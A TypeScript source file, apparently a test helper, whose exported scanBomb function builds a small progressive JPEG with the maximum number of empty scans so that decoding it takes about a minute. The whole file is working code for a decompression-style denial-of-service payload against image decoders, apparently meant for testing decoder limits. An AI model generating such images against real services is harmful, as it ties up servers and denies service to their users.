/** A JPEG marker segment: marker, length and data. */
function segment(marker: number, ...data: number[]): Buffer {
  const length = data.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...data]);
}

/** The entropy-coded data of a scan in which every block is empty, in runs of up to 32,767 blocks. */
function emptyBlocks(blocks: number): Buffer {
  let bits = "";
  for (let left = blocks; left > 0; left -= 32_767) {
    // EOB14: code 0, then 14 bits that are added to 16,384.
    const run = Math.min(left, 32_767);
    if (run < 16_384) {
      for (let one = 0; one < run; one += 1) bits += "10";
    } else bits += `0${(run - 16_384).toString(2).padStart(14, "0")}`;
  }
  bits = bits.padEnd(Math.ceil(bits.length / 8) * 8, "1");
  const bytes = bits.match(/.{8}/g)?.flatMap((byte) => {
    const value = Number.parseInt(byte, 2);
    return value === 0xff ? [0xff, 0] : [value];
  });
  return Buffer.from(bytes ?? []);
}

/**
 * A progressive grey JPEG with as many scans as the format allows, each passing over every block and adding nothing.
 * Some kilobytes that take a decoder a minute.
 */
export function scanBomb(side = 7000): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const parts = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, 0, ...Array.from({ length: 64 }, () => 1)),
    segment(0xc2, 8, side >> 8, side & 0xff, side >> 8, side & 0xff, 1, 1, 0x11, 0),
    // DC: one code, for no difference. AC: 0 for a run of empty blocks, 10 for one.
    segment(0xc4, 0x00, 1, ...Array.from({ length: 15 }, () => 0), 0),
    segment(0xc4, 0x10, 1, 1, ...Array.from({ length: 14 }, () => 0), 0xe0, 0x00),
    segment(0xda, 1, 1, 0x00, 0, 0, 0),
    Buffer.alloc(Math.ceil(blocks / 8), 0),
  ];
  const data = emptyBlocks(blocks);
  for (let coefficient = 1; coefficient < 64; coefficient += 1) {
    for (let bit = 13; bit >= 0; bit -= 1) {
      const approximation = bit === 13 ? 13 : ((bit + 1) << 4) | bit;
      parts.push(segment(0xda, 1, 1, 0x00, coefficient, coefficient, approximation), data);
    }
  }
  return Buffer.concat([...parts, Buffer.from([0xff, 0xd9])]);
}
